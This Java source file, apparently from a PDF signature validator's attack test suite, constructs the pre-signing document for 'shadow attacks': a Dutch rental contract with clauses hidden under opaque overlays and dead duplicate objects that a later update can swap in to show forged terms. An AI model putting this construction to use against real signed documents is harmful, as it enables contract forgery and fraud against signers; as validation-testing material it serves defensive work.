package be.paraaf.validation.attacks;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The attacker's document before signing (shadow attacks, Mainka, Mladenov, Rohlmann, NDSS 2021): the sample
 * contract with, on page 1, content that the signer does not see (hidden under an opaque Form XObject, under an
 * opaque text field and under an opaque square annotation), two prefilled fields (one read-only), a second
 * Helvetica line, and dead objects an update can later switch to: a duplicate {@code 9 0 obj} page content
 * left out of the cross-reference table, a duplicate catalog likewise, and a complete alternative catalog.
 * All drawn in plain Helvetica, so the attacks below can rewrite it.
 */
final class ShadowDocument {

    static final String HIDDEN_UNDER_XOBJECT = "Boete bij laattijdige betaling: EUR 5.000 per dag";
    static final String HIDDEN_UNDER_FIELD = "De huurder verzaakt aan elke waarborg";
    static final String HIDDEN_UNDER_ANNOTATION = "Opzegtermijn: geen";
    static final String FORGED_CONTENT = "Huurprijs: EUR 1,00 per maand - de verhuurder betaalt alle kosten";

    final byte[] pdf;
    final int coverXObject;
    final int helvetica;
    final int noteField;
    final int lockedField;
    final int priceField;
    final int square;
    final int page1 = 4;
    final int page1Contents = 9;
    final int catalog = 1;
    final int alternativeCatalog;
    final long deadContentOffset;
    final long deadCatalogOffset;

    private ShadowDocument(byte[] pdf, int coverXObject, int helvetica, int noteField, int lockedField,
            int priceField, int square, int alternativeCatalog, long deadContentOffset, long deadCatalogOffset) {
        this.pdf = pdf;
        this.coverXObject = coverXObject;
        this.helvetica = helvetica;
        this.noteField = noteField;
        this.lockedField = lockedField;
        this.priceField = priceField;
        this.square = square;
        this.alternativeCatalog = alternativeCatalog;
        this.deadContentOffset = deadContentOffset;
        this.deadCatalogOffset = deadCatalogOffset;
    }

    /** Built from the sample contract (objects 1 catalog, 3 AcroForm, 4 page 1, 8 its resources, 9 its content). */
    static ShadowDocument prepare(byte[] sampleContract) {
        Revision r = new Revision(sampleContract);
        int helvetica = r.allocate();
        r.object(helvetica, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
        int cover = r.allocate();
        r.stream(cover, "/Type /XObject /Subtype /Form /BBox [0 0 420 22]", "1 1 1 rg 0 0 420 22 re f");
        int extra = r.allocate();
        r.stream(extra, "", "BT /FX 11 Tf 60 420 Td (Waarborg: EUR 2.400, te storten voor de intrek) Tj ET\n"
                + "BT /FX 11 Tf 60 390 Td (" + HIDDEN_UNDER_XOBJECT + ") Tj ET\n"
                + "BT /FX 11 Tf 60 360 Td (" + HIDDEN_UNDER_FIELD + ") Tj ET\n"
                + "BT /FX 11 Tf 60 290 Td (" + HIDDEN_UNDER_ANNOTATION + ") Tj ET\n"
                + "q 1 0 0 1 55 384 cm /Cover Do Q\n");
        r.object(8, "<< /Font << /F1 14 0 R /FX " + helvetica + " 0 R >> /XObject << /Cover " + cover + " 0 R >> >>");

        int noteAppearance = r.allocate();
        r.stream(noteAppearance, "/Type /XObject /Subtype /Form /BBox [0 0 420 22] /Resources << /Font << /Helv "
                + helvetica + " 0 R >> >>", "1 1 1 rg 0 0 420 22 re f");
        int note = r.allocate();
        r.object(note, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (opmerking) /V () /DA (/Helv 10 Tf 0 g) /F 4"
                + " /Rect [55 354 475 376] /P 4 0 R /AP << /N " + noteAppearance + " 0 R >> >>");
        int lockedAppearance = r.allocate();
        r.stream(lockedAppearance, fieldAppearanceDictionary(helvetica), fieldAppearance("Voorschot: EUR 2.400"));
        int locked = r.allocate();
        r.object(locked, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (voorschot) /V (Voorschot: EUR 2.400) /Ff 1"
                + " /DA (/Helv 10 Tf 0 g) /F 4 /Rect [55 320 255 342] /P 4 0 R /AP << /N " + lockedAppearance
                + " 0 R >> >>");
        int priceAppearance = r.allocate();
        r.stream(priceAppearance, fieldAppearanceDictionary(helvetica), fieldAppearance("Huurprijs: EUR 950"));
        int price = r.allocate();
        r.object(price, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (huurprijs) /V (Huurprijs: EUR 950)"
                + " /DA (/Helv 10 Tf 0 g) /F 4 /Rect [300 320 500 342] /P 4 0 R /AP << /N " + priceAppearance
                + " 0 R >> >>");
        int squareAppearance = r.allocate();
        r.stream(squareAppearance, "/Type /XObject /Subtype /Form /BBox [0 0 420 22]", "1 1 1 rg 0 0 420 22 re f");
        int square = r.allocate();
        r.object(square, "<< /Type /Annot /Subtype /Square /F 4 /Rect [55 284 475 306] /C [1 1 1] /IC [1 1 1]"
                + " /BS << /W 0 >> /P 4 0 R /AP << /N " + squareAppearance + " 0 R >> >>");
        r.object(4, "<< /Type /Page /MediaBox [0 0 595.27566 841.8898] /Parent 2 0 R /Resources 8 0 R /Contents [9 0 R "
                + extra + " 0 R] /Annots [" + note + " 0 R " + locked + " 0 R " + price + " 0 R " + square
                + " 0 R] >>");
        r.object(3, "<< /Fields [6 0 R 7 0 R " + note + " 0 R " + locked + " 0 R " + price + " 0 R]"
                + " /DA (/Helv 10 Tf 0 g) /DR << /Font << /Helv " + helvetica + " 0 R >> >> >>");

        // the alternative document, complete and listed but unreferenced: page 1 says something else
        int altContent = r.allocate();
        r.stream(altContent, "", forgedPage());
        int altResources = r.allocate();
        r.object(altResources, "<< /Font << /FX " + helvetica + " 0 R >> >>");
        int altPages = r.allocate();
        int altPage = r.allocate();
        r.object(altPage, "<< /Type /Page /MediaBox [0 0 595.27566 841.8898] /Parent " + altPages
                + " 0 R /Resources " + altResources + " 0 R /Contents " + altContent + " 0 R >>");
        r.object(altPages, "<< /Type /Pages /Kids [" + altPage + " 0 R 5 0 R] /Count 2 >>");
        int alternativeCatalog = r.allocate();
        r.object(alternativeCatalog, "<< /Type /Catalog /Pages " + altPages + " 0 R /AcroForm 3 0 R >>");

        // dead duplicates, outside the cross-reference table: what a re-pointing update switches to
        r.unlisted(9, "", forgedPage());
        r.unlisted(1, "<< /Type /Catalog /Pages " + altPages + " 0 R /AcroForm 3 0 R >>");
        byte[] pdf = r.withXref();
        Map<Integer, Long> dead = new LinkedHashMap<>(r.unlistedOffsets());
        return new ShadowDocument(pdf, cover, helvetica, note, locked, price, square, alternativeCatalog,
                dead.get(9), dead.get(1));
    }

    static String forgedPage() {
        return "BT /FX 14 Tf 60 780 Td (" + FORGED_CONTENT + ") Tj ET\n"
                + "BT /FX 11 Tf 60 750 Td (Dit document vervangt elke vorige versie.) Tj ET\n";
    }

    static String fieldAppearanceDictionary(int helvetica) {
        return "/Type /XObject /Subtype /Form /BBox [0 0 200 22] /Resources << /Font << /Helv " + helvetica
                + " 0 R >> >>";
    }

    static String fieldAppearance(String value) {
        return "/Tx BMC 1 1 1 rg 0 0 200 22 re f BT /Helv 10 Tf 0 g 2 7 Td (" + value + ") Tj ET EMC";
    }
}
